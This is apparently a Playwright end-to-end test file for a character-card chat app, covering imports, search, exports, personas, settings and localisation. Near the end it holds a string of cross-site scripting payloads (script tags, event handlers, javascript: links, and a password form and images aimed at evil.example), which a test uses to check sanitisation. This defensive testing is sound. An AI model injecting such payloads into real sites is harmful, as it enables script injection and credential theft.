"""The library (files dropped, found, thrown away, taken home), what is set once, and cards that mean harm."""

import base64
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import BrowserContext, Locator, Page, expect

from chalicelib.cards.png import texts
from chalicelib.cards.reading import read_card_file
from chalicelib.cards.spec import to_card
from chalicelib.cards.writing import to_charx, to_json, to_png
from chalicelib.models.cards import Card
from tests.browser.stage import Person, Story, sequence, wait_until
from tests.support.pictures import picture

DROP = """files => {
  const bag = new DataTransfer()
  for (const [name, content] of files) {
    const bytes = Uint8Array.from(atob(content), letter => letter.charCodeAt(0))
    bag.items.add(new File([bytes], name))
  }
  for (const kind of ['dragenter', 'dragover', 'drop'])
    document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: bag, bubbles: true, cancelable: true }))
}"""


def card(name: str, **data: Any) -> Card:
    return to_card({"spec": "chara_card_v3", "spec_version": "3.0", "data": {"name": name, **data}}, [])


def large_picture() -> bytes:
    """More than a REST door takes in one piece."""
    from io import BytesIO

    made = BytesIO()
    Image.frombytes("RGB", (1200, 1800), os.urandom(1200 * 1800 * 3)).save(made, "PNG", compress_level=0)
    return made.getvalue()


def drop(page: Page, files: dict[str, bytes]) -> None:
    """Lets files go over the page, as a mouse does."""
    page.evaluate(DROP, [[name, base64.b64encode(data).decode()] for name, data in files.items()])


def characters(page: Page) -> Locator:
    return page.get_by_role("list", name="Characters").get_by_role("article")


def test_cards_dropped_on_the_library_come_in_and_each_file_is_reported(ada: Person, page: Page) -> None:
    page.goto("/library")
    expect(characters(page)).to_have_count(2)
    drop(
        page,
        {
            "anna.png": to_png(card("Anna", tags=["sea"]), picture(), {}),
            "bert.json": to_json(card("Bert")),
            "cleo.charx": to_charx(card("Cleo"), picture("plum"), {}),
            "huge.png": to_png(card("Dora"), large_picture(), {}),
            "holiday.png": picture("gold"),
            "notes.txt": b"Buy milk.",
        },
    )
    report = page.get_by_role("region", name="Imported files")
    expect(report.get_by_role("heading")).to_have_text(re.compile("4 characters came in, 2 did not"), timeout=60_000)
    for name in ("anna.png", "bert.json", "cleo.charx", "huge.png"):
        expect(report.get_by_role("listitem").filter(has_text=name)).to_contain_text("taken in")
    expect(report.get_by_role("listitem").filter(has_text="holiday.png")).to_contain_text(
        "This picture holds no character."
    )
    expect(report.get_by_role("listitem").filter(has_text="notes.txt").locator(".note").first).not_to_be_empty()
    expect(characters(page)).to_have_count(6)
    for name in ("Anna", "Bert", "Cleo", "Dora"):
        expect(characters(page).filter(has_text=name)).to_be_visible()


def test_characters_are_found_tagged_loved_thrown_away_and_brought_back(ada: Person, page: Page) -> None:
    ada.add(name="Wren", tags=["sea"])
    ada.add(name="Isolde", tags=["castle"])
    page.goto("/library")
    expect(characters(page)).to_have_count(4)
    search = page.get_by_role("textbox", name="Search characters")
    search.fill("isol")
    expect(characters(page)).to_have_count(1)
    expect(characters(page)).to_contain_text("Isolde")
    search.fill("nobody at all")
    expect(page.get_by_role("heading", name="Nobody by that name")).to_be_visible()
    search.fill("")
    chips = page.get_by_role("group", name="Filters")
    chips.get_by_role("button", name=re.compile("^sea")).click()
    expect(characters(page)).to_have_count(1)
    chips.get_by_role("button", name=re.compile("^sea")).click()
    expect(characters(page)).to_have_count(4)
    characters(page).filter(has_text="Isolde").hover()
    page.get_by_role("button", name="Favourite: Isolde").click()
    chips.get_by_role("button", name="Favourites").click()
    expect(characters(page)).to_have_count(1)
    characters(page).get_by_role("link").click()
    expect(page.get_by_text("Keeper of a lighthouse.")).to_be_visible()
    expect(page.get_by_role("button", name="Start a chat")).to_be_visible()
    page.get_by_role("button", name="More").click()
    page.get_by_role("menuitem", name="Move to the trash").click()
    expect(page).to_have_url(re.compile("/library$"))
    chips.get_by_role("button", name="Trash").click()
    expect(characters(page)).to_contain_text(["Isolde"])
    characters(page).get_by_role("link").click()
    page.get_by_role("button", name="Restore").click()
    expect(page.get_by_role("button", name="Start a chat")).to_be_visible()
    wait_until(lambda: {one["name"] for one in ada.ask("GET", "/characters?favourite=true")["items"]} == {"Isolde"})


def test_an_exported_png_carries_the_card_for_old_and_new_readers(ada: Person, page: Page) -> None:
    character_id = ada.add(name="Wren", creator_notes="Kept.", extensions={"foreign/thing": {"kept": True}})
    page.goto(f"/library/{character_id}")
    page.get_by_role("button", name="More").click()
    with page.expect_download() as waiting:
        page.get_by_role("menuitem", name="Export as PNG").click()
    assert waiting.value.suggested_filename == "Wren.png"
    data = Path(waiting.value.path()).read_bytes()
    found = {text.keyword: json.loads(base64.b64decode(text.value)) for text in texts(data)}
    assert found["chara"]["spec"] == "chara_card_v2"
    assert found["ccv3"]["spec"] == "chara_card_v3"
    assert found["chara"]["data"]["name"] == found["ccv3"]["data"]["name"] == "Wren"
    assert read_card_file(data).card.data.extensions == {"foreign/thing": {"kept": True}}


def test_a_connection_is_added_lists_its_models_answers_and_is_used(ada: Person, page: Page) -> None:
    chat_id = ada.begin()
    page.goto("/settings/connections")
    page.get_by_role("button", name="Add").click()
    sheet = page.get_by_role("dialog")
    service = sheet.get_by_label("Service").locator("option", has_text="OpenAI-compatible").first
    expect(service).to_be_attached()
    sheet.get_by_label("Service").select_option(service.inner_text())
    sheet.get_by_label("Name").fill("Somewhere")
    sheet.get_by_label("Address").fill("http://127.0.0.1:9/v1")
    model = sheet.get_by_role("combobox", name="Model")
    model.fill("paced-ttft20-tps50-n6")
    sheet.get_by_role("button", name="Test").click()
    expect(sheet.get_by_role("status")).to_contain_text(
        re.compile(r"cannot be reached|does not answer|not .*reach", re.I)
    )
    sheet.get_by_label("Address").fill(ada.model)
    model.fill("")
    model.press("ArrowDown")
    sheet.get_by_role("option", name="paced-ttft200-tps20-n100").click()
    expect(model).to_have_value("paced-ttft200-tps20-n100")
    model.fill("paced-ttft20-tps50-n6")
    sheet.get_by_role("button", name="Test").click()
    expect(sheet.get_by_role("status")).to_contain_text(re.compile("first word after"))
    sheet.get_by_role("button", name="Save").click()
    expect(sheet).to_be_hidden()
    expect(page.get_by_role("article").filter(has_text="Somewhere")).to_contain_text("in use")
    story = Story(page).open(chat_id)
    story.say("Hello?")
    story.wait_for_reply()
    assert sequence(story.text()) == list(range(6))
    assert ada.messages(chat_id)[-1]["reply"]["connection"] == "Somewhere"


def test_a_model_that_cannot_be_reached_says_so_in_the_story(ada: Person, page: Page) -> None:
    ada.model = "http://127.0.0.1:9/v1"
    ada.use_model("any")
    chat_id = ada.begin()
    story = Story(page).open(chat_id)
    story.say("Hello?")
    expect(story.turns.last.get_by_role("alert")).to_contain_text("Paced", timeout=40_000)
    expect(story.turns.last.get_by_role("button", name="Try again")).to_be_visible()
    assert [message["text"] for message in ada.messages(chat_id)][:2] == ["The lamp is lit.", "Hello?"]


def test_a_persona_is_made_and_speaks_in_a_new_chat(ada: Person, page: Page) -> None:
    ada.use_model("ttft20-tps0-n3")
    page.goto("/personas")
    page.get_by_role("button", name="New persona").click()
    sheet = page.get_by_role("dialog")
    sheet.get_by_label("Name").fill("Captain Bluebell")
    sheet.get_by_label("Description").fill("A sailor without a ship.")
    expect(sheet.get_by_role("status").filter(has_text="Saved")).to_be_visible()
    # Changed once more and closed at once: it is saved all the same.
    sheet.get_by_label("Description").fill("A sailor with a ship.")
    sheet.get_by_role("button", name="Close").last.click()
    expect(page.get_by_role("article").filter(has_text="Captain Bluebell")).to_contain_text("That's me")
    expect(page.get_by_role("article").filter(has_text="A sailor with a ship.")).to_be_visible()
    [stored] = ada.ask("GET", "/personas")["items"]
    # Meanwhile on another device: both are shown, and one is chosen.
    page.get_by_role("button", name="More: Captain Bluebell").click()
    page.get_by_role("menuitem", name="Edit").click()
    change = {"revision": stored["revision"], "description": "A sailor on land."}
    ada.ask("PATCH", f"/personas/{stored['id']}", change)
    sheet.get_by_label("Description").fill("A sailor at sea.")
    both = page.get_by_role("dialog", name="Changed in two places")
    expect(both).to_contain_text("A sailor on land.")
    both.get_by_role("button", name="Keep what is here").click()
    expect(both).to_be_hidden()
    wait_until(lambda: ada.ask("GET", "/personas")["items"][0]["description"] == "A sailor at sea.")
    story = Story(page).open(ada.begin(first_mes="Good evening, {{user}}."))
    expect(story.prose()).to_have_text("Good evening, Captain Bluebell.")
    story.say("Ahoy.")
    story.wait_for_reply()
    expect(story.turns.nth(1)).to_have_accessible_name("Captain Bluebell")


def test_greetings_are_put_in_order_and_come_back_when_taken_out(ada: Person, page: Page) -> None:
    character = ada.add(alternate_greetings=["By day.", "By night."])
    kept = lambda: ada.ask("GET", f"/characters/{character}")["card"]["data"]["alternate_greetings"]  # noqa: E731
    page.goto(f"/library/{character}/edit")
    page.get_by_role("tab", name="Greetings").click()
    page.get_by_role("button", name="Move Greeting 3").press("ArrowUp")
    expect(page.get_by_text("Greeting 3 is now 1 of 2.")).to_be_attached()
    # The focus went along: the next key moves the same one back.
    expect(page.get_by_role("button", name="Move Greeting 2")).to_be_focused()
    expect(page.get_by_label("Greeting 2", exact=True)).to_have_value("By night.")
    wait_until(lambda: kept() == ["By night.", "By day."])
    page.get_by_role("button", name="Remove: Greeting 2").click()
    wait_until(lambda: kept() == ["By day."])
    page.get_by_role("button", name="Undo").click()
    wait_until(lambda: kept() == ["By night.", "By day."])


def test_a_presets_sliders_are_saved_as_they_are_moved(ada: Person, page: Page) -> None:
    page.goto("/presets")
    temperature = page.get_by_role("slider", name="Temperature")
    before = float(temperature.get_attribute("aria-valuenow") or 0)
    temperature.focus()
    temperature.press("ArrowRight")
    temperature.press("ArrowRight")
    after = float(temperature.get_attribute("aria-valuenow") or 0)
    assert after > before
    expect(page.get_by_text("Saved", exact=True)).to_be_visible()
    page.reload()
    expect(page.get_by_role("slider", name="Temperature")).to_have_attribute(
        "aria-valuenow", re.compile(rf"^{after:g}")
    )


def test_theme_and_language_change_at_once_and_stay(ada: Person, page: Page) -> None:
    page.emulate_media(color_scheme="light")
    page.goto("/settings/appearance")
    paper = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    page.get_by_role("radio", name="Night").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    assert page.evaluate("getComputedStyle(document.documentElement).backgroundColor") != paper
    page.get_by_label("Language").select_option("简体中文")
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    expect(page.get_by_role("link", name="设置")).to_be_visible()
    page.reload()
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")


# What is the same in both languages.
_SAME = re.findall(
    r"\w+",
    "TavernAI Plus PNG JSON CHARX YAML JSONL English Top Min tavern test ada Ctrl Enter Esc Shift UTC Chrome Chromium "
    "Linux Typical OpenAI SillyTavern START char user original Python urllib",
)


@pytest.mark.parametrize(
    "place",
    ["library", "character", "edit", "chats", "chat", "personas", "connections", "presets", "appearance", "account"],
)
def test_no_english_is_left_over_in_chinese(
    place: str, newcomer: Callable[..., Person], window: Callable[..., BrowserContext]
) -> None:
    wen = newcomer("zh-CN")
    character = wen.ask("GET", "/characters")["items"][0]
    chat = wen.ask("POST", "/chats", {"character_id": character["id"]})
    paths = {
        "library": "/library",
        "character": f"/library/{character['id']}",
        "edit": f"/library/{character['id']}/edit",
        "chats": "/chats",
        "chat": f"/chats/{chat['id']}",
        "personas": "/personas",
        "presets": "/presets",
    }
    page = window(wen, locale="zh-CN").new_page()
    page.goto(paths.get(place, f"/settings/{place}"), wait_until="networkidle")
    expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    expect(page.get_by_role("heading").first).to_be_visible()
    seen = page.evaluate(
        """() => [document.title, document.body.innerText, ...[...document.body.querySelectorAll('*')].flatMap((node) =>
             ['aria-label', 'placeholder', 'title', 'alt'].map((name) => node.getAttribute(name) ?? ''))].join(' ')"""
    )
    # What is theirs to name may be in any language.
    for name in (wen.name, wen.email):
        seen = seen.replace(name, " ")
    words = set(re.findall(r"[A-Za-z]{3,}", seen))
    assert words.difference(_SAME) == set()


HOSTILE = """Look <script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">
<img src="https://evil.example/track.png" alt="a map"> ![m](https://evil.example/2.png)
<a href="javascript:window.__pwned=3">click me</a> [or me](javascript:window.__pwned=4)
<svg onload="window.__pwned = 5"><script>window.__pwned = 6</script></svg>
<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
<div style="position: fixed; inset: 0; background: url(https://evil.example/3)" onclick="window.__pwned=7">over</div>
<form action="https://evil.example/"><input name="password"><button>Send it</button></form>
<details open ontoggle="window.__pwned = 8"><summary>more</summary></details>
<video src="https://evil.example/4.mp4" autoplay></video><base href="https://evil.example/">
"""


def test_a_hostile_card_runs_nothing_and_calls_nobody(ada: Person, window: Callable[..., BrowserContext]) -> None:
    page = window(ada, harmful=True).new_page()
    chat_id = ada.begin(
        name="<img src=x onerror='window.__pwned=9'>Mallory",
        description=HOSTILE,
        first_mes=HOSTILE,
        alternate_greetings=[HOSTILE],
        creator_notes=HOSTILE,
        tags=["<b>bold</b>"],
    )
    character_id = ada.ask("GET", f"/chats/{chat_id}")["chat"]["character_id"]
    for path in (
        "/library",
        f"/library/{character_id}",
        f"/library/{character_id}/edit",
        "/chats",
        f"/chats/{chat_id}",
    ):
        page.goto(path, wait_until="networkidle")
        expect(page.get_by_text("Mallory").first).to_be_visible()
        assert page.evaluate("window.__pwned") is None
    story = Story(page)
    held = story.turns.last.get_by_role("button", name="Show a map from evil.example")
    expect(held).to_be_visible()
    said = story.turns.last.locator(".said")
    assert said.locator("script, iframe, style, form, input, svg, video, base, [style], [onclick]").count() == 0
    handlers = (
        "node => [...node.querySelectorAll('*')].flatMap(one => one.getAttributeNames()).filter(n => /^on/.test(n))"
    )
    assert said.evaluate(handlers) == []
    for link in said.get_by_text(re.compile("click me|or me")).all():
        assert not (link.get_attribute("href") or "").startswith("javascript")
        link.click()
    assert page.evaluate("window.__pwned") is None
    held.click()
    expect(page.get_by_role("dialog", name="Show pictures from outside?")).to_be_visible()
    page.get_by_role("button", name="Cancel").click()
    expect(held).to_be_visible()
